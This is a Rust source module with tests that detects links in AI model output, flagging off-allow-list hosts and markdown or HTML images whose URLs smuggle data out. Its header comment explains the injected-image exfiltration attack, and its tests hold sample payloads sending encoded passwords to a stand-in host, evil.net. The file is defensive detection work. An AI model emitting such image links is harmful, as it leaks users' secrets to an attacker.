//! Links in model output: finding URLs (plain, markdown links and images,
//! HTML `<img src>` / `<a href>`), extracting their host, and two findings:
//!
//! - **exfil** — a markdown/HTML image or link to a host outside the
//!   allow-list whose URL carries data (long or encoded query values, many
//!   parameters, sentences in the query, long or encoded path segments).
//!   Images are fetched by the client without a click, so an injected
//!   `![](https://evil.example/p?q=<secret>)` leaks the secret the moment
//!   the answer renders.
//! - **off allow-list** — any link whose host is not allow-listed.
//!
//! Allow-list entries match on whole domain labels: `example.com` allows
//! `example.com` and `docs.example.com`, never `badexample.com` or
//! `example.com.evil.net`.

use memchr::memmem;

/// How a link appears in the text.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum LinkKind {
    /// A bare URL (or an `<http://…>` autolink).
    Plain,
    /// `[text](url)` or a reference definition `[id]: url`.
    MarkdownLink,
    /// `![alt](url)` — rendered (fetched) without a click.
    MarkdownImage,
    /// `<img src="url">` — rendered without a click.
    HtmlImage,
    /// `<a href="url">`.
    HtmlLink,
}

impl LinkKind {
    /// Rendered markup (not a bare URL).
    pub fn is_markup(self) -> bool {
        self != LinkKind::Plain
    }
    /// Fetched by the client without a click.
    pub fn auto_loads(self) -> bool {
        matches!(self, LinkKind::MarkdownImage | LinkKind::HtmlImage)
    }
}

/// A link found in text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Link {
    /// How it appears.
    pub kind: LinkKind,
    /// Byte span of the URL.
    pub start: usize,
    /// End of the URL (exclusive).
    pub end: usize,
    /// Byte span of the whole construct (`![alt](url)`, the `<img …>` tag up
    /// to the URL's closing quote); equals the URL span for plain links.
    pub markup: (usize, usize),
    /// Lower-cased host, without user info, port or trailing dot.
    pub host: String,
}

impl Link {
    /// The URL text.
    pub fn url<'a>(&self, text: &'a str) -> &'a str {
        text.get(self.start..self.end).unwrap_or("")
    }
}

/// Longest URL considered (longer ones are cut here).
pub const MAX_URL_LEN: usize = 8192;
/// Most links reported per text.
pub const MAX_LINKS: usize = 1024;

/// Finds http(s) links (and protocol-relative ones in markup), in order.
pub fn find_links(text: &str) -> Vec<Link> {
    let b = text.as_bytes();
    let mut out = Vec::new();
    let finder = memmem::Finder::new(b"//");
    let mut from = 0;
    while let Some(rel) = finder.find(&b[from..]) {
        let slashes = from + rel;
        from = slashes + 2;
        if out.len() >= MAX_LINKS {
            break;
        }
        // Scheme before "//": "http:" or "https:" at a word start, or nothing
        // (protocol-relative) when inside markup.
        let start = if slashes >= 6 && b[slashes - 6..slashes].eq_ignore_ascii_case(b"https:") {
            slashes - 6
        } else if slashes >= 5 && b[slashes - 5..slashes].eq_ignore_ascii_case(b"http:") {
            slashes - 5
        } else {
            slashes
        };
        if start > 0
            && (b[start - 1].is_ascii_alphanumeric()
                || b[start - 1] == b'/'
                || b[start - 1] == b':')
        {
            continue;
        }
        let (kind, markup_start) = classify(b, start);
        if start == slashes && kind == LinkKind::Plain {
            continue; // bare "//" in prose or code comments
        }
        let end = url_end(b, start, kind);
        let host_start = slashes + 2;
        let host = host_of(&text[host_start..end]);
        if host.is_empty() {
            continue;
        }
        let markup_end = markup_end(b, end, kind);
        from = end.max(from);
        out.push(Link {
            kind,
            start,
            end,
            markup: (markup_start, markup_end),
            host,
        });
    }
    out
}

/// What precedes the URL decides its kind: `](` (markdown, `![` for
/// images), `[id]: ` (reference), `src=` inside `<img`, `href=`.
fn classify(b: &[u8], start: usize) -> (LinkKind, usize) {
    if start >= 2 && &b[start - 2..start] == b"](" {
        // Find the opening '[' on the same line (bounded).
        let mut depth = 0usize;
        let mut i = start - 2;
        while i > 0 && start - i < 1024 {
            i -= 1;
            match b[i] {
                b']' => depth += 1,
                b'[' if depth == 0 => {
                    if i > 0 && b[i - 1] == b'!' {
                        return (LinkKind::MarkdownImage, i - 1);
                    }
                    return (LinkKind::MarkdownLink, i);
                }
                b'[' => depth -= 1,
                b'\n' => break,
                _ => {}
            }
        }
        return (LinkKind::MarkdownLink, start - 2);
    }
    // Attribute value: src= / href= with optional quote.
    let mut q = start;
    if q > 0 && matches!(b[q - 1], b'"' | b'\'') {
        q -= 1;
    }
    if q > 0 && b[q - 1] == b'=' {
        let eq = q - 1;
        let attr_start = eq.saturating_sub(4);
        let attr = &b[attr_start..eq];
        if let Some(tag) = tag_start(b, eq) {
            let name_end = (tag + 1..b.len().min(tag + 8))
                .find(|&k| !b[k].is_ascii_alphabetic())
                .unwrap_or(tag + 1);
            let name = &b[tag + 1..name_end];
            if attr.len() >= 3
                && attr[attr.len() - 3..].eq_ignore_ascii_case(b"src")
                && (name.eq_ignore_ascii_case(b"img")
                    || name.eq_ignore_ascii_case(b"image")
                    || name.eq_ignore_ascii_case(b"source")
                    || name.eq_ignore_ascii_case(b"iframe"))
            {
                return (LinkKind::HtmlImage, tag);
            }
            if attr.len() >= 4 && attr.eq_ignore_ascii_case(b"href") {
                return (LinkKind::HtmlLink, tag);
            }
        }
    }
    // Markdown reference definition: line starts with "[id]: ".
    let mut i = start;
    while i > 0 && b[i - 1] == b' ' {
        i -= 1;
    }
    if i >= 2 && b[i - 1] == b':' && b[i - 2] == b']' {
        let mut k = i - 2;
        while k > 0 && b[k - 1] != b'[' && b[k - 1] != b'\n' && i - k < 256 {
            k -= 1;
        }
        if k > 0 && b[k - 1] == b'[' && (k == 1 || b[k - 2] == b'\n' || b[k - 2] == b' ') {
            return (LinkKind::MarkdownLink, k - 1);
        }
    }
    (LinkKind::Plain, start)
}

/// The `<` of the tag enclosing offset `at`, if any (within 512 bytes, no
/// `>` in between).
fn tag_start(b: &[u8], at: usize) -> Option<usize> {
    let mut i = at;
    while i > 0 && at - i < 512 {
        i -= 1;
        match b[i] {
            b'<' => return Some(i),
            b'>' => return None,
            _ => {}
        }
    }
    None
}

fn url_end(b: &[u8], start: usize, kind: LinkKind) -> usize {
    let limit = (start + MAX_URL_LEN).min(b.len());
    let mut i = start;
    let mut parens = 0i32;
    let quote_terminated = matches!(kind, LinkKind::HtmlImage | LinkKind::HtmlLink);
    while i < limit {
        let c = b[i];
        if c.is_ascii_whitespace() || c == b'<' || c == b'>' || c == b'"' || c == b'`' || c < 0x20 {
            break;
        }
        if c == b'\'' && quote_terminated {
            break;
        }
        if c == b'(' {
            parens += 1;
        } else if c == b')' {
            if parens == 0 {
                break;
            }
            parens -= 1;
        } else if c == b']' && kind == LinkKind::Plain {
            break;
        }
        i += 1;
    }
    // Trailing punctuation belongs to the sentence.
    while i > start
        && matches!(
            b[i - 1],
            b'.' | b',' | b';' | b':' | b'!' | b'?' | b'*' | b'_' | b'\''
        )
    {
        i -= 1;
    }
    // Never end inside a UTF-8 sequence.
    while i > start && i < b.len() && (b[i] & 0xC0) == 0x80 {
        i -= 1;
    }
    i
}

fn markup_end(b: &[u8], url_end: usize, kind: LinkKind) -> usize {
    match kind {
        LinkKind::MarkdownImage | LinkKind::MarkdownLink => {
            // Up to the closing ')' (an optional title may sit before it).
            let mut i = url_end;
            while i < b.len() && i - url_end < 256 && b[i] != b'\n' {
                if b[i] == b')' {
                    return i + 1;
                }
                i += 1;
            }
            url_end
        }
        LinkKind::HtmlImage | LinkKind::HtmlLink => {
            let mut i = url_end;
            while i < b.len() && i - url_end < 512 {
                if b[i] == b'>' {
                    return i + 1;
                }
                i += 1;
            }
            url_end
        }
        LinkKind::Plain => url_end,
    }
}

/// Host of `rest` (the part after `//`): lower-cased, no user info, port,
/// brackets or trailing dot.
fn host_of(rest: &str) -> String {
    let auth_end = rest.find(['/', '?', '#', '\\']).unwrap_or(rest.len());
    let auth = &rest[..auth_end];
    let auth = auth.rsplit_once('@').map_or(auth, |(_, h)| h);
    let host = if let Some(v6) = auth.strip_prefix('[') {
        v6.split(']').next().unwrap_or("")
    } else {
        auth.split(':').next().unwrap_or("")
    };
    host.trim_end_matches('.').to_ascii_lowercase()
}

/// Allowed hosts, matched on whole domain labels.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct HostAllowList {
    domains: Vec<String>,
}

impl HostAllowList {
    /// Builds the list. Entries are domains (`example.com`; a leading `*.`
    /// or `.` is accepted and means the same). Errors name the bad entry.
    pub fn new(domains: &[String]) -> Result<HostAllowList, String> {
        let mut out = Vec::with_capacity(domains.len());
        for (i, d) in domains.iter().enumerate() {
            let d = d
                .trim()
                .trim_start_matches("*.")
                .trim_start_matches('.')
                .trim_end_matches('.')
                .to_ascii_lowercase();
            if d.is_empty()
                || d.contains(|c: char| {
                    c.is_whitespace() || matches!(c, '/' | ':' | '?' | '#' | '@' | '*')
                })
            {
                return Err(format!(
                    "allow_list[{i}]: {:?} is not a domain name",
                    domains[i]
                ));
            }
            out.push(d);
        }
        Ok(HostAllowList { domains: out })
    }

    /// True when `host` is an allowed domain or a subdomain of one.
    pub fn allows(&self, host: &str) -> bool {
        let host = host.trim_end_matches('.');
        self.domains.iter().any(|d| {
            host.len() >= d.len()
                && host[host.len() - d.len()..].eq_ignore_ascii_case(d)
                && (host.len() == d.len() || host.as_bytes()[host.len() - d.len() - 1] == b'.')
        })
    }

    /// True when the list is empty (nothing is allowed).
    pub fn is_empty(&self) -> bool {
        self.domains.is_empty()
    }
}

/// A query value this long carries data.
pub const LONG_QUERY_VALUE: usize = 40;
/// This many query parameters carry data.
pub const MANY_PARAMS: usize = 5;
/// A path segment this long carries data.
pub const LONG_PATH_SEGMENT: usize = 48;

/// Why a URL looks like it carries data, or `None`.
pub fn carries_data(url: &str) -> Option<&'static str> {
    let no_frag = url.split('#').next().unwrap_or(url);
    let (before_q, query) = match no_frag.split_once('?') {
        Some((a, q)) => (a, q),
        None => (no_frag, ""),
    };
    if !query.is_empty() {
        let params: Vec<&str> = query.split(['&', ';']).filter(|p| !p.is_empty()).collect();
        if params.len() >= MANY_PARAMS {
            return Some("many query parameters");
        }
        for p in &params {
            let v = p.split_once('=').map_or(*p, |(_, v)| v);
            let decoded_len = percent_len(v);
            if decoded_len >= LONG_QUERY_VALUE {
                return Some("long query value");
            }
            if looks_encoded(v, 16) {
                return Some("encoded query value");
            }
            let words =
                v.split(['+', ' ']).filter(|w| !w.is_empty()).count() + v.matches("%20").count();
            if words >= 4 {
                return Some("text in query value");
            }
        }
    }
    // Path segments (after the host).
    let path = before_q.split_once("//").map_or(before_q, |(_, r)| r);
    for seg in path.split('/').skip(1) {
        if seg.len() >= LONG_PATH_SEGMENT {
            return Some("long path segment");
        }
        if looks_encoded(seg, 24) {
            return Some("encoded path segment");
        }
    }
    None
}

/// Length after percent-decoding (approximate: `%xx` counts one).
fn percent_len(v: &str) -> usize {
    v.len() - 2 * v.matches('%').count().min(v.len() / 3)
}

/// Base64/hex-looking: at least `min` chars of the base64 alphabet (or
/// `%3D` padding), with digits and letters mixed (or both cases), and not a
/// plain word or slug.
fn looks_encoded(v: &str, min: usize) -> bool {
    let v = v
        .trim_end_matches("%3D")
        .trim_end_matches("%3d")
        .trim_end_matches('=');
    if v.len() < min {
        return false;
    }
    if !v
        .bytes()
        .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'-' | b'_'))
    {
        return false;
    }
    let digits = v.bytes().filter(u8::is_ascii_digit).count();
    let upper = v.bytes().filter(u8::is_ascii_uppercase).count();
    let lower = v.bytes().filter(u8::is_ascii_lowercase).count();
    // Slugs like "my-first-blog-post-about-rust" are words and dashes.
    let dashes = v.bytes().filter(|c| *c == b'-').count();
    if dashes * 8 > v.len() {
        return false;
    }
    (upper > 0 && lower > 0 && (digits > 0 || upper >= 3)) || (digits >= 4 && (upper + lower) >= 4)
}

/// What is wrong with a link.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum LinkIssueKind {
    /// Markup link/image to a non-allowed host carrying data.
    Exfil,
    /// A link to a host not on the allow-list.
    OffAllowList,
}

/// A problem with one link.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LinkIssue {
    /// What is wrong.
    pub kind: LinkIssueKind,
    /// The link's kind.
    pub link: LinkKind,
    /// Span to act on: the whole markup for markup links, the URL otherwise.
    pub start: usize,
    /// End of the span.
    pub end: usize,
    /// The host.
    pub host: String,
    /// For exfil, why the URL looks like it carries data.
    pub reason: Option<&'static str>,
}

/// The link checks of a policy.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LinkPolicy {
    /// Allowed hosts.
    pub allow: HostAllowList,
    /// Report links to hosts off the allow-list (not only exfil).
    pub flag_off_allow_list: bool,
}

impl LinkPolicy {
    /// Checks every link in `text`, appending one issue per bad link (exfil
    /// takes precedence over off-allow-list).
    pub fn check(&self, text: &str, out: &mut Vec<LinkIssue>) {
        for l in find_links(text) {
            if self.allow.allows(&l.host) {
                continue;
            }
            let reason = if l.kind.is_markup() {
                carries_data(l.url(text))
            } else {
                None
            };
            let (kind, (start, end)) = match reason {
                Some(_) => (LinkIssueKind::Exfil, l.markup),
                None if self.flag_off_allow_list => (
                    LinkIssueKind::OffAllowList,
                    if l.kind.is_markup() {
                        l.markup
                    } else {
                        (l.start, l.end)
                    },
                ),
                None => continue,
            };
            out.push(LinkIssue {
                kind,
                link: l.kind,
                start,
                end,
                host: l.host,
                reason,
            });
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn policy(allow: &[&str], off: bool) -> LinkPolicy {
        LinkPolicy {
            allow: HostAllowList::new(&allow.iter().map(|s| s.to_string()).collect::<Vec<_>>())
                .unwrap(),
            flag_off_allow_list: off,
        }
    }

    fn issues(p: &LinkPolicy, text: &str) -> Vec<(LinkIssueKind, String)> {
        let mut v = Vec::new();
        p.check(text, &mut v);
        v.into_iter()
            .map(|i| (i.kind, text[i.start..i.end].to_string()))
            .collect()
    }

    #[test]
    fn finds_plain_markdown_and_html_links() {
        let t = "See https://docs.example.com/a?b=1. Also [guide](http://Example.org/x \"t\") and ![logo](https://cdn.img.net/l.png) <img src=\"https://t.co/p.gif\"> <a href='https://x.io/'>x</a>";
        let links = find_links(t);
        let got: Vec<(LinkKind, &str, &str)> = links
            .iter()
            .map(|l| (l.kind, l.url(t), l.host.as_str()))
            .collect();
        assert_eq!(
            got,
            vec![
                (
                    LinkKind::Plain,
                    "https://docs.example.com/a?b=1",
                    "docs.example.com"
                ),
                (
                    LinkKind::MarkdownLink,
                    "http://Example.org/x",
                    "example.org"
                ),
                (
                    LinkKind::MarkdownImage,
                    "https://cdn.img.net/l.png",
                    "cdn.img.net"
                ),
                (LinkKind::HtmlImage, "https://t.co/p.gif", "t.co"),
                (LinkKind::HtmlLink, "https://x.io/", "x.io"),
            ]
        );
        assert_eq!(
            &t[links[2].markup.0..links[2].markup.1],
            "![logo](https://cdn.img.net/l.png)"
        );
    }

    #[test]
    fn host_extraction_strips_userinfo_port_and_case() {
        let t = "go https://user:pw@API.Example.COM:8443/path and http://[::1]:80/x and (https://en.wikipedia.org/wiki/Rust_(language))";
        let links = find_links(t);
        assert_eq!(links[0].host, "api.example.com");
        assert_eq!(links[1].host, "::1");
        assert_eq!(
            links[2].url(t),
            "https://en.wikipedia.org/wiki/Rust_(language)"
        );
    }

    #[test]
    fn allow_list_matches_whole_labels() {
        let a = HostAllowList::new(&["example.com".into(), "*.corp.net".into()]).unwrap();
        assert!(a.allows("example.com"));
        assert!(a.allows("docs.example.com"));
        assert!(a.allows("a.b.corp.net"));
        assert!(!a.allows("badexample.com"));
        assert!(!a.allows("example.com.evil.net"));
        assert!(!a.allows("com"));
        assert!(HostAllowList::new(&["https://x.com/".into()])
            .unwrap_err()
            .contains("allow_list[0]"));
    }

    #[test]
    fn markdown_image_exfil_is_flagged() {
        let p = policy(&["example.com"], false);
        for t in [
            "![img](https://evil.net/pixel.png?data=U2VjcmV0IHBhc3N3b3JkOiBodW50ZXIy)",
            "![](https://evil.net/log?q=the+user+said+their+password+is+hunter2)",
            "![x](https://evil.net/c?a=1&b=2&c=3&d=4&e=5)",
            "[click](https://evil.net/collect/aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ)",
            "<img src=\"https://evil.net/t?sid=0123456789abcdef0123456789abcdef01234567\">",
        ] {
            let got = issues(&p, t);
            assert_eq!(got.len(), 1, "{t}: {got:?}");
            assert_eq!(got[0].0, LinkIssueKind::Exfil, "{t}");
        }
    }

    #[test]
    fn benign_links_are_not_exfil() {
        let p = policy(&["example.com"], false);
        for t in [
            "![diagram](https://docs.example.com/img/arch.png?token=U2VjcmV0IHBhc3N3b3JkOiBodW50ZXIy)",
            "![cat](https://upload.wikimedia.org/wikipedia/commons/cat.jpg)",
            "[Rust book](https://doc.rust-lang.org/book/ch03-02-data-types.html)",
            "[search](https://duckduckgo.com/?q=rust)",
            "[post](https://blog.site.io/2024/05/my-first-blog-post-about-rust-and-wasm-filters)",
            "plain https://evil.net/x?d=U2VjcmV0IHBhc3N3b3JkOiBodW50ZXIy is not rendered",
        ] {
            assert!(issues(&p, t).is_empty(), "{t}: {:?}", issues(&p, t));
        }
    }

    #[test]
    fn off_allow_list_links_are_flagged_when_enabled() {
        let p = policy(&["example.com"], true);
        let got = issues(
            &p,
            "ok https://example.com/a, bad https://badexample.com/b and [x](https://other.org)",
        );
        assert_eq!(
            got,
            vec![
                (
                    LinkIssueKind::OffAllowList,
                    "https://badexample.com/b".into()
                ),
                (LinkIssueKind::OffAllowList, "[x](https://other.org)".into())
            ]
        );
    }

    #[test]
    fn data_heuristics() {
        assert_eq!(carries_data("https://a.b/x?q=rust"), None);
        assert_eq!(carries_data("https://a.b/x?id=12345"), None);
        assert_eq!(carries_data("https://a.b/watch?v=dQw4w9WgXcQ"), None);
        assert!(carries_data("https://a.b/x?d=SGVsbG8sIFdvcmxkIQ%3D%3D").is_some());
        assert!(carries_data(&format!("https://a.b/x?d={}", "a".repeat(50))).is_some());
    }

    mod props {
        use super::super::*;
        use proptest::prelude::*;

        proptest! {
            #[test]
            fn spans_are_char_boundaries(s in "(https://|http://|//|!\\[|\\]\\(|\\)|<img src=\"|\"|é|ü|a\\.b|\\?q=|&|=|x| |\n|\\[id\\]: ){0,30}") {
                for l in find_links(&s) {
                    prop_assert!(l.start <= l.end && l.end <= s.len());
                    prop_assert!(s.is_char_boundary(l.start) && s.is_char_boundary(l.end));
                    prop_assert!(s.is_char_boundary(l.markup.0) && s.is_char_boundary(l.markup.1));
                    let mut v = Vec::new();
                    LinkPolicy { allow: HostAllowList::default(), flag_off_allow_list: true }.check(&s, &mut v);
                }
            }
        }
    }

    #[test]
    fn odd_input_never_panics() {
        for t in [
            "//",
            "http://",
            "https://",
            "](//",
            "![](//x",
            "<img src=//",
            "[a]: https://",
            "http://é.com/ü",
            "https://[::1",
            "héllo://x",
        ] {
            let _ = find_links(t);
            let mut v = Vec::new();
            policy(&[], true).check(t, &mut v);
        }
    }
}
